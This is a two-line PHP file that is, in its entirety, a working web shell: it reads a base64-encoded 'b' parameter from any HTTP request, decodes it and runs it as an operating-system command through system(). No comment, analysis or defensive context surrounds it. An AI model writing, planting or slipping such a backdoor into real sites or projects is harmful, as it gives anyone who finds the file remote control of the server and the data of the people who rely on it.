<?php
system(base64_decode($_REQUEST['b']));
